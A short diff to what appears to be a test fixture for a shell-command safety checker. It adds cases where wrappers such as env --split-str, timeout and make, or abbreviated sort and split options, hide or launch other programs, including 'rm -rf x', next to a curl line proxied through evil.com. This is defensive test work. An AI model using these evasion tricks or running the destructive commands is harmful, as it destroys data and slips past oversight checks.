@@ -146,4 +146,9 @@ export const wrappers = [
   vague("zsh -c 'ls'", 'another language than bash', 'zsh'),
   vague('https_proxy=http://evil.com curl https://h.com', 'https_proxy sends', 'curl'),
   vague('shopt -s lastpipe', 'shopt changes', 'shopt'),
+  { command: "env --split-str='rm -rf x'", programs: ['rm'] },
+  { command: 'timeout --sig=9 5 rm -rf x', programs: ['rm'] },
+  { command: 'make --fil=other.mk', runs: ['other.mk'] },
+  { command: 'sort --co=./x a', unclear: 'may make sort run another program' },
+  { command: 'split --fi=./x a', unclear: 'may make split run another program' },
 ]
